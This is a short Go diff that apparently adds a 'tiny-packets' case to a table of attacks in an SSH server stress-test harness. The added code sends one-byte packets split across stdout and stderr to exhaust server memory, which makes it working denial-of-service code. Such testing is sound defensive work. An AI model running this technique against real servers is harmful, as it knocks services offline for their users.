@@ -165,6 +165,24 @@ var attacks = []struct {
 			hold(until, time.Second)
 		})
 	}},
+	{"tiny-packets", func(addr, local string, until time.Time) {
+		withRaw(addr, local, nil, until, func(ch gossh.Channel) {
+			// No shell, so nothing reads stdin, and nothing asks for
+			// stderr: a byte a packet, which the server's SSH library
+			// keeps as a packet and a list element each (some 48 bytes
+			// for each byte of the channel's 2 MiB window).
+			one, stop := []byte{0}, time.Now().Add(10*time.Second)
+			for i := 0; time.Now().Before(stop) && time.Now().Before(until); i++ {
+				w := io.Writer(ch)
+				if i%2 == 1 {
+					w = ch.Stderr()
+				}
+				if _, err := w.Write(one); err != nil {
+					return
+				}
+			}
+		})
+	}},
 	{"handshake-garbage", func(addr, local string, until time.Time) {
 		conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(local)}}).Dial("tcp", addr)
 		if err != nil {
